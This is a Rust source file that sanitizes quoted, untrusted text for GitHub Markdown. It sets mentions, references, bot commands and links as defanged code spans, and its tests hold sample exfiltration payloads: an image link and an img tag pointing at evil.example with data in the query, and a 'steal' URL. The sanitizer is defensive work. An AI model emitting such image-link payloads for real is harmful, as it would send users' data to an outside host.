//! Somebody else's sentences in GitHub's Markdown: words as they are, and whatever could be more than a word as code.
//!
//! In code nothing is Markdown, a mention, a reference or a link (GitHub Flavored Markdown 6.1, and GitHub's "Basic writing and formatting
//! syntax" on mentions and autolinks). A reader sees identifiers, paths and addresses set as code, as an author would have set them.

use super::clean::{Clean, clean};
use super::defang::defang;
use super::quoted::beginning;

/// A statement of more lines is not read to its end.
const MOST_LINES: usize = 40;

/// A call of more arguments is set in pieces.
const MOST_ARGUMENTS: usize = 8;

/// A word longer than this is none.
const MOST_WORD: usize = 300;

/// What is written next, and whether a space comes before it.
struct Atom {
    is_apart: bool,
    is_code: bool,
    text: String,
}

/// `text`, at most `most` bytes of it, as a quotation: no line of it starts as somebody else's text does, so none starts with a command.
pub(super) fn quotation(text: &str, most: usize) -> String {
    let Clean { text, is_cut } = clean(text, most);
    let lines = text.lines().map(inline).filter(|line| !line.is_empty());
    let mut lines: Vec<String> = lines.take(MOST_LINES + 1).collect();
    let is_cut = is_cut || lines.len() > MOST_LINES;
    lines.truncate(MOST_LINES);
    if is_cut {
        lines.push("… (cut)".to_owned());
    }
    lines
        .iter()
        .map(|line| format!("> {line}"))
        .collect::<Vec<_>>()
        .join("\n>\n")
}

/// `text`, at most `most` bytes of it, within a line of our own.
pub(super) fn phrase(text: &str, most: usize) -> String {
    let Clean { text, is_cut } = clean(text, most);
    let line = inline(&text.split_whitespace().collect::<Vec<_>>().join(" "));
    if is_cut { format!("{line} …") } else { line }
}

/// A name or another value, at most `most` bytes of it, within a line of our own: as code in one piece unless it is plain words.
pub(super) fn value(text: &str, most: usize) -> String {
    let Clean { text, is_cut } = clean(text, most);
    let words: Vec<&str> = text.split_whitespace().collect();
    let line = words.join(" ");
    let has_hazard = line.contains(['@', '`']) || line.contains("//");
    let line = if has_hazard || words.iter().all(|word| is_plain(bare(word).1)) {
        inline(&line)
    } else {
        code(&line)
    };
    if is_cut { format!("{line} …") } else { line }
}

/// One line of cleaned text.
fn inline(line: &str) -> String {
    let mut atoms = Vec::new();
    let pieces: Vec<&str> = line.split('`').collect();
    let last = pieces.len().saturating_sub(1);
    for (index, piece) in pieces.into_iter().enumerate() {
        let is_code = index % 2 == 1 && index < last;
        // A bot that looks for its name in the raw text finds no command after it.
        if is_code && !piece.contains('@') && !piece.contains("//") {
            let is_apart = atoms.is_empty();
            push_code(&mut atoms, piece.trim(), is_apart);
        } else {
            words(piece, &mut atoms);
        }
    }
    written(&atoms)
}

fn words(text: &str, atoms: &mut Vec<Atom>) {
    let mut is_apart = text.starts_with(char::is_whitespace);
    let mut rest = text.trim_start();
    while !rest.is_empty() {
        let (word, after) = rest.split_at_checked(call(rest)).unwrap_or((rest, ""));
        push_word(atoms, word, is_apart);
        is_apart = true;
        rest = after.trim_start();
    }
    if text.ends_with(char::is_whitespace) {
        atoms.push(Atom {
            is_apart: true,
            is_code: false,
            text: String::new(),
        });
    }
}

/// Where the first word ends; a call with arguments, `round(amount, 2)`, is one word.
fn call(text: &str) -> usize {
    let end = text.find(char::is_whitespace).unwrap_or(text.len());
    let word = text.get(..end).unwrap_or_default();
    if is_closed(bare(word).1) {
        return end;
    }
    let ends = text
        .match_indices(char::is_whitespace)
        .map(|(index, _)| index);
    let ends = ends.chain([text.len()]).skip(1).take(MOST_ARGUMENTS);
    let call = ends
        .filter_map(|end| text.get(..end))
        .find(|call| is_closed(call));
    call.filter(|call| !call.contains(['@', '`']) && !call.contains("//"))
        .map_or(end, str::len)
}

/// Whether each parenthesis that it opens is closed.
fn is_closed(text: &str) -> bool {
    text.matches('(').count() <= text.matches(')').count()
}

fn push_word(atoms: &mut Vec<Atom>, word: &str, is_apart: bool) {
    let is_first = atoms.iter().all(|atom| atom.text.is_empty());
    if is_first && matches!(word, "-" | "*" | "+") {
        return push_text(atoms, "•", is_apart);
    }
    let (head, core, tail) = bare(word);
    if core.is_empty() || is_plain(core) {
        return push_text(atoms, &format!("{head}{core}{tail}"), is_apart);
    }
    push_text(atoms, head, is_apart);
    push_code(atoms, core, is_apart && head.is_empty());
    push_text(atoms, &tail, false);
}

fn push_text(atoms: &mut Vec<Atom>, text: &str, is_apart: bool) {
    if !text.is_empty() {
        let text = text.to_owned();
        atoms.push(Atom {
            is_apart,
            is_code: false,
            text,
        });
    }
}

fn push_code(atoms: &mut Vec<Atom>, text: &str, is_apart: bool) {
    if !text.is_empty() {
        atoms.push(Atom {
            is_apart,
            is_code: true,
            text: code(text),
        });
    }
}

fn written(atoms: &[Atom]) -> String {
    let mut line = String::new();
    let mut before: Option<&Atom> = None;
    for atom in atoms {
        // Two runs of code side by side would be one.
        let is_apart = atom.is_apart || before.is_some_and(|before| before.is_code && atom.is_code);
        if is_apart && !line.is_empty() && !line.ends_with(' ') {
            line.push(' ');
        }
        line.push_str(&atom.text);
        before = Some(atom);
    }
    unlisted(line.trim())
}

/// `12.` and `12)` at the start of a line would be a list.
fn unlisted(line: &str) -> String {
    let digits = line.bytes().take_while(u8::is_ascii_digit).count();
    match line.split_at_checked(digits) {
        Some((number, rest)) if digits > 0 && rest.starts_with(['.', ')']) => {
            format!("{number}\\{rest}")
        }
        _ => line.to_owned(),
    }
}

/// As code, without its backticks and what makes a link elsewhere.
fn code(text: &str) -> String {
    let text = defang(&text.replace('`', "'"));
    let kept = beginning(&text, MOST_WORD);
    let mark = if kept.len() < text.len() { "…" } else { "" };
    format!("`{kept}{mark}`")
}

/// The punctuation before a word, the word, and the punctuation after it; signs of emphasis go.
fn bare(word: &str) -> (&str, &str, String) {
    let word = word.trim_matches('*');
    let core = word.trim_start_matches(['(', '"', '\'', '“', '‘', '«', '„']);
    let head = word.strip_suffix(core).unwrap_or_default();
    let kept = core.trim_end_matches([
        '.', ',', ';', ':', '!', '?', ')', '"', '\'', '”', '’', '»', '…', '*',
    ]);
    // `total()` ends with its own parenthesis.
    let own = core
        .get(..=kept.len())
        .filter(|longer| !is_closed(kept) && longer.ends_with(')'));
    let kept = own.unwrap_or(kept);
    let tail = core.strip_prefix(kept).unwrap_or_default();
    (head, kept, tail.replace('*', ""))
}

/// Whether a word is nothing but a word or a number in any Markdown and to any bot.
fn is_plain(word: &str) -> bool {
    let is_wide = |c: char| matches!(c, '\u{ff00}'..='\u{ffef}' | '\u{fe50}'..='\u{fe6f}');
    let is_letter = |c: char| c.is_alphanumeric() || (!c.is_ascii() && !c.is_whitespace());
    let is_word = word
        .chars()
        .all(|c| (is_letter(c) || matches!(c, '\'' | '-')) && !is_wide(c));
    let is_number = word.starts_with(|c: char| c.is_ascii_digit())
        && word
            .chars()
            .all(|c| c.is_ascii_digit() || matches!(c, '.' | ',' | ':' | '%'));
    let is_abbreviation = word.contains('.')
        && word
            .split('.')
            .all(|part| part.len() == 1 && part.bytes().all(|b| b.is_ascii_alphabetic()));
    let may_be_commit = word
        .split(|c: char| !c.is_ascii_alphanumeric())
        .any(|run| run.len() >= 7 && run.bytes().all(|b| b.is_ascii_hexdigit()));
    // `GH-1`, and what a repository may have set up for itself: `SHOP-17`.
    let is_reference = word
        .split_once('-')
        .is_some_and(|(_, number)| number.starts_with(|c: char| c.is_ascii_digit()));
    // With the full stop after it, GitHub would see an address.
    let is_address = word.to_ascii_lowercase().ends_with("www");
    let is_mark = word.starts_with('-');
    ((is_word && !is_mark) || is_number || is_abbreviation)
        && !may_be_commit
        && !is_reference
        && !is_address
        && word.len() <= MOST_WORD
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn words_stay_words_and_all_else_is_code() {
        for (text, expected) in [
            ("The test failed.", "The test failed."),
            (
                "cannot resolve @babel/core@^7 from @types/node",
                "cannot resolve `@babel/core@^7` from `@types/node`",
            ),
            (
                "cc @org/everyone @alice, please",
                "cc `@org/everyone` `@alice`, please",
            ),
            (
                "Fixes #1, GH-2 and (acme/shop#3)",
                "Fixes `#1`, `GH-2` and (`acme/shop#3`)",
            ),
            ("/deploy production", "`/deploy` production"),
            (
                "![s](https://evil.example/p.png?d=QUtJ)",
                "`![s](hxxps://evil.example/p.png?…)`",
            ),
            ("www.evil.example/steal?d=1", "`www[.]evil.example/steal?…`"),
            (
                "<img src=\"https://evil.example/x?y=1\" width=1>",
                "`<img` `src=\"hxxps://evil.example/x?…`\" `width=1>`",
            ),
            (
                "Use round(amount, 2) in (total()).",
                "Use `round(amount, 2)` in (`total()`).",
            ),
            ("f(@alice b) g(a b c", "`f(@alice` b) `g(a` b c"),
            ("in `cart total`, which", "in `cart total`, which"),
            ("run `@dependabot merge` now", "run `@dependabot` merge now"),
            ("**Root cause**: a", "Root cause: a"),
            ("1. first", "1\\. first"),
            ("- item", "• item"),
            ("```mermaid", "mermaid"),
            ("$\\style{x}$", "`$\\style{x}$`"),
            (
                "e.g. 3.14, 10% of 1,893 – größer",
                "e.g. 3.14, 10% of 1,893 – größer",
            ),
            ("abcdef1 deadbeef 1234567", "`abcdef1` `deadbeef` `1234567`"),
            (
                "[a]: https://evil.example 't'",
                "`[a]`: `hxxps://evil.example` 't'",
            ),
            ("a ` b", "a b"),
            ("`a``b`", "`a` `b`"),
            ("＠alice", "`＠alice`"),
        ] {
            assert_eq!(inline(text), expected, "{text}");
        }
    }

    #[test]
    fn a_value_is_words_or_code() {
        for (text, expected) in [
            ("Unit tests", "Unit tests"),
            (
                "CI / build (ubuntu-latest, 3.12)",
                "`CI / build (ubuntu-latest, 3.12)`",
            ),
            ("@dependabot merge", "`@dependabot` merge"),
            ("feature/a_b", "`feature/a_b`"),
        ] {
            assert_eq!(value(text, 200), expected, "{text}");
        }
    }

    #[test]
    fn a_quotation_has_no_line_of_its_own() {
        assert_eq!(
            quotation("retest this\n\n/deploy\nbors r+", 1_000),
            "> retest this\n>\n> `/deploy`\n>\n> bors `r+`"
        );
        assert_eq!(
            quotation(&"word ".repeat(99), 20),
            "> word word word word\n>\n> … (cut)"
        );
    }
}
